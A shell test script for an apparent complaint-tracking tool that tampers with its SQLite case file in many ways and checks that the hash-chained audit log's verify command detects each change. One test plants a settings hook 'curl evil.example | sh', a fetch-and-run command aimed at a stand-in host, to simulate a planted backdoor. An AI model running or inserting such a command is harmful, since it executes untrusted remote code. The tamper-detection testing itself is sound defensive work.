#!/bin/sh
# tests/tamper.sh: edits made to a case file with the sqlite3 shell, as an
# adversary would, each on a fresh copy of one file the tools made; verify
# must exit 1 and name what changed (complaint(5), "What verify detects").
. "$(dirname "$0")/lib.sh"

B=$T/base.db
complaint-new -f "$B" -n 'Ann Berg' -e ann@example.se -r 2026-11-20 \
    --ref W-1 -t kettle Kettle leaks </dev/null >/dev/null 2>&1
complaint-new -f "$B" --mail <"$TOP/tests/mail/en-attachment.eml" \
    >/dev/null 2>&1
printf 'take two' >"$T/rec.wav"
echo '10:00 I offered a refund of 10.00 EUR.' | complaint-interview -f "$B" \
    -r employee -p Per --recording "$T/rec.wav" 1 >/dev/null 2>&1
echo '10:05 He offered nothing.' |
    complaint-interview -f "$B" -r complainant 1 >/dev/null 2>&1
complaint-resolve -f "$B" propose 1 refund 10.00 -m sorry >/dev/null
complaint-resolve -f "$B" escalate 1 -t qa -m 'check stock' >/dev/null
complaint-resolve -f "$B" decide 1 -m 'kettle faulty' --favour customer --no-evidence \
    >/dev/null
complaint-resolve -f "$B" follow-up 1 --in 7d >/dev/null
complaint-report -f "$B" due --mark -w 30d >/dev/null
check 'the file the tools made verifies' 0 \
    "complaint-report -f $B verify | cut -f1,2" <<EOF
ok	11 entries
ok	169 rows match the log
ok	1 recordings
EOF
HEAD=$(complaint-report -f "$B" head | tr ' ' :)
check 'head prints the last entry and its chain hash' 0 \
    "complaint-report -f $B head | sed 's/ [0-9a-f]\{64\}$/ HASH/'" <<EOF
11 HASH
EOF

# edit NAME SQL: a fresh copy of the file, changed by SQL with sqlite3.
export TAMPERED="t.db base.db"
edit() {
	rm -f "$T/t.db" "$T/t.db-wal" "$T/t.db-shm"
	sqlite3 "$B" ".backup '$T/t.db'"
	sqlite3 "$T/t.db" "$2" || echo "not ok - $1: the edit failed"
	check "$1" 1 "complaint-report -q -f $T/t.db verify" </dev/null
}
U='DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;'

edit 'cases: a status changed' "UPDATE cases SET status = 'closed' WHERE id = 1"
check_err 'complaint-report: cases row 1 was changed outside the tools: it does not match audit entry 9'
edit 'cases: a severity lowered' "UPDATE cases SET severity = 4 WHERE id = 2"
check_err 'complaint-report: cases row 2 was changed outside the tools: it does not match audit entry 3'
edit 'cases: one added' "INSERT INTO cases (received, created, summary,
    updated) VALUES ('x', 'x', 'planted', 'x')"
check_err 'complaint-report: cases row 3 was added outside the tools: no audit entry records it'
edit 'cases: one deleted' "DELETE FROM cases WHERE id = 2"
check_err 'complaint-report: cases row 2 was deleted outside the tools: audit entry 3 recorded it'
edit 'customers: an e-mail changed' \
    "UPDATE customers SET email = 'x@example.org' WHERE id = 1"
check_err 'complaint-report: customers row 1 was changed outside the tools: it does not match audit entry 2'
edit 'customers: one added' "INSERT INTO customers (name, created)
    VALUES ('Eve', 'x')"
check_err 'complaint-report: customers row 3 was added outside the tools: no audit entry records it'
edit 'customers: one deleted' "DELETE FROM customers WHERE id = 2"
check_err 'complaint-report: customers row 2 was deleted outside the tools: audit entry 3 recorded it'
edit 'statements: the words changed (issue 16)' \
    "UPDATE statements SET text = 'I offered a refund of 39.90 EUR.' WHERE id = 1"
check_err 'complaint-report: statements row 1 was changed outside the tools: it does not match audit entry 4'
edit 'statements: one added' "INSERT INTO statements (account, seq, text)
    VALUES (1, 2, 'and I apologised')"
check_err 'complaint-report: statements row 3 was added outside the tools: no audit entry records it'
edit 'statements: one deleted' "DELETE FROM statements WHERE id = 2"
check_err 'complaint-report: statements row 2 was deleted outside the tools: audit entry 5 recorded it'
edit 'accounts: the party changed' "UPDATE accounts SET party = 'Eva' WHERE id = 1"
check_err 'complaint-report: accounts row 1 was changed outside the tools: it does not match audit entry 4'
printf 'take 3!!' >"$T/rec2.wav"
edit 'recordings: swapped together with the stored hash' \
    "UPDATE recordings SET path = '$T/rec2.wav',
    sha256 = '$(sha256sum <"$T/rec2.wav" | cut -c1-64)' WHERE id = 1"
check_err 'complaint-report: recordings row 1 was changed outside the tools: it does not match audit entry 4'
edit 'recordings: one deleted' "DELETE FROM recordings"
check_err 'complaint-report: recordings row 1 was deleted outside the tools: audit entry 4 recorded it'
edit 'attachments: a hash changed' "UPDATE attachments SET sha256 = '00'"
check_err 'complaint-report: attachments row 1 was changed outside the tools: it does not match audit entry 3'
edit 'attachments: one deleted' "DELETE FROM attachments"
check_err 'complaint-report: attachments row 1 was deleted outside the tools: audit entry 3 recorded it'
edit 'proposals: an offer raised' "UPDATE proposals SET amount = 3990"
check_err 'complaint-report: proposals row 1 was changed outside the tools: it does not match audit entry 6'
edit 'proposals: one added' "INSERT INTO proposals (case_id, kind, created,
    actor) VALUES (1, 'voucher', 'x', 'tester')"
check_err 'complaint-report: proposals row 2 was added outside the tools: no audit entry records it'
edit 'decisions: the favour turned' "UPDATE decisions SET favour = 'company'"
check_err 'complaint-report: decisions row 1 was changed outside the tools: it does not match audit entry 8'
edit 'decisions: one deleted' "DELETE FROM decisions"
check_err 'complaint-report: decisions row 1 was deleted outside the tools: audit entry 8 recorded it'
edit 'escalations: the reason changed' "UPDATE escalations SET reason = 'none'"
check_err 'complaint-report: escalations row 1 was changed outside the tools: it does not match audit entry 7'
edit 'follow-ups: one put off' "UPDATE followups SET due = '2027-01-01T00:00:00Z'"
check_err 'complaint-report: followups row 1 was changed outside the tools: it does not match audit entry 9'
edit 'events: one deleted' "DELETE FROM events WHERE id = 3"
check_err 'complaint-report: events row 3 was deleted outside the tools: audit entry 4 recorded it'
edit 'events: one added' "INSERT INTO events (case_id, at, actor, action)
    VALUES (1, 'x', 'tester', 'ack')"
check_err 'complaint-report: events row 11 was added outside the tools: no audit entry records it'
edit 'settings: a time limit changed' \
    "UPDATE settings SET value = '30d' WHERE key = 'sla.ack.1'"
check_err 'complaint-report: settings row ["sla.ack.1"] was changed outside the tools: it does not match audit entry 1'
edit 'settings: a hook planted' \
    "INSERT INTO settings VALUES ('hook.new', 'curl evil.example | sh')"
check_err 'complaint-report: settings row ["hook.new"] was added outside the tools: no audit entry records it'
edit 'settings: one deleted' "DELETE FROM settings WHERE key = 'currency'"
check_err 'complaint-report: settings row ["currency"] was deleted outside the tools: audit entry 1 recorded it'
edit 'rules: one added' "INSERT INTO rules (kind, pattern, severity)
    VALUES ('legal', 'x', 1)"
check_err 'complaint-report: rules row 119 was added outside the tools: no audit entry records it'
edit 'rules: one deleted' "DELETE FROM rules WHERE id = 1"
check_err 'complaint-report: rules row 1 was deleted outside the tools: audit entry 1 recorded it'
edit 'tags: one changed' "UPDATE tags SET tag = 'toaster'"
# a tag is keyed by its SHA-256, so its text stays out of the log
check_err "complaint-report: tags row [1,\"sha256:$(printf kettle | sha256sum | cut -c1-64)\"] was deleted outside the tools: audit entry 2 recorded it (and 1 more)"
edit 'fields: one added' "INSERT INTO fields VALUES (1, 'State', 'NY')"
check_err 'complaint-report: fields row [1,"State"] was added outside the tools: no audit entry records it'
edit 'discrepancies: one added' "INSERT INTO discrepancies (case_id, mark,
    created) VALUES (1, '=', 'x')"
check_err 'complaint-report: discrepancies row 1 was added outside the tools: no audit entry records it'
edit 'reminders: one deleted' "DELETE FROM reminders WHERE case_id = 2"
check_err 'complaint-report: reminders row [2,"resolve","2026-11-27T12:00:00Z"] was deleted outside the tools: audit entry 10 recorded it'

# The log itself.
edit 'audit: an entry altered' "$U UPDATE audit SET content = '{}' WHERE id = 6"
check_err 'complaint-report: audit entry 6: its content does not match its hash'
edit 'audit: the rows of an entry altered' \
    "$U UPDATE audit SET rows = '[]' WHERE id = 6"
check_err 'complaint-report: audit entry 6: the chain is broken (the entry or one before it was altered)'
edit 'audit: an entry in the middle deleted' "$U DELETE FROM audit WHERE id = 6"
check_err 'complaint-report: audit entry 6 is missing'
edit 'audit: the last two deleted' "$U DELETE FROM audit WHERE id > 9"
check_err 'complaint-report: events row 10 was added outside the tools: no audit entry records it (and 3 more)'
edit 'audit: the last three deleted' "$U DELETE FROM audit WHERE id > 8"
check_err 'complaint-report: cases row 1 was changed outside the tools: it does not match audit entry 8 (and 6 more)'
edit 'audit: all of it deleted' "$U DELETE FROM audit"
check_err 'complaint-report: accounts row 1 was added outside the tools: no audit entry records it (and 168 more)'
edit 'audit: a forged redaction (issue 16)' \
    "UPDATE audit SET content = '{}', redacted = 'x' WHERE id = 1"
check_err 'complaint-report: audit entry 1 is redacted, but no anonymise entry records its redaction'
edit 'audit: rows without a record after the first' \
    "$U UPDATE audit SET rows = NULL WHERE id = 5"
check_err 'complaint-report: audit entry 5 has no record of its rows, unlike the entries before it'

# A row changed and then written again by a tool is still found.
edit 'cases: changed, then acknowledged by a tool' \
    "UPDATE cases SET severity = 4 WHERE id = 2"
complaint-resolve -f "$T/t.db" ack 2 </dev/null >/dev/null
check 'a later write does not hide it' 1 "complaint-report -q -f $T/t.db verify" </dev/null
check_err 'complaint-report: cases row 2 was changed outside the tools before audit entry 12 changed it'

# Truncation consistent with the tables, and a rewrite: only the head
# kept elsewhere shows them.
rm -f "$T/t.db"*
sqlite3 "$B" ".backup '$T/t.db'"
sqlite3 "$T/t.db" "$U DELETE FROM audit WHERE id > 9;
    DELETE FROM events WHERE id > 8;
    DELETE FROM reminders"
check 'a truncation with the rows of its entries passes verify alone' 0 \
    "complaint-report -q -f $T/t.db verify" </dev/null
check 'and fails verify --head' 1 \
    "complaint-report -q -f $T/t.db verify --head $HEAD" </dev/null
check_err 'complaint-report: audit entry 11 is gone: the log was truncated or rewritten since the head was taken'
rm -f "$T/t.db"*
sqlite3 "$B" ".backup '$T/t.db'"
sqlite3 "$T/t.db" "$U DELETE FROM audit WHERE id = 11"
check 'the last entry deleted (it recorded no row) fails verify --head' 1 \
    "complaint-report -q -f $T/t.db verify --head $HEAD" </dev/null
check_err 'complaint-report: audit entry 11 is gone: the log was truncated or rewritten since the head was taken'
check 'the intact file passes verify --head' 0 \
    "complaint-report -q -f $B verify --head $HEAD" </dev/null
# A rewrite: the same story told again by the tools a minute later.
R=$T/rewrite.db
COMPLAINT_NOW=2026-11-22T10:01:00Z complaint-new -f "$R" -n 'Ann Berg' \
    -e ann@example.se -r 2026-11-20 Kettle leaks </dev/null >/dev/null 2>&1
for i in 2 3 4 5 6 7 8 9 10 11; do
	COMPLAINT_NOW=2026-11-22T10:01:00Z complaint-resolve -f "$R" \
	    escalate 1 -m "again $i" </dev/null >/dev/null
done
check 'a consistent rewrite fails verify --head' 1 \
    "complaint-report -q -f $R verify --head $HEAD" </dev/null
check_err 'complaint-report: audit entry 11 has another chain hash than the head taken: the log was rewritten'
check 'a bad --head is 64' 64 "complaint-report -q -f $B verify --head 12" </dev/null
check_err 'complaint-report: --head: give N:HASH as complaint-report head prints it'

# scripts/cron-head.sh keeps the head daily and checks the file against
# the last head kept.
check 'cron-head.sh keeps the head' 0 \
    "sh $TOP/scripts/cron-head.sh -f $B -o $T/heads && cut -d' ' -f2 $T/heads" <<EOF
11
EOF
sqlite3 "$B" "$U DELETE FROM audit WHERE id = 11"
check 'and fails the next day when the log lost its last entry' 1 \
    "sh $TOP/scripts/cron-head.sh -f $B -o $T/heads" </dev/null
check_err 'complaint-report: audit entry 11 is gone: the log was truncated or rewritten since the head was taken'
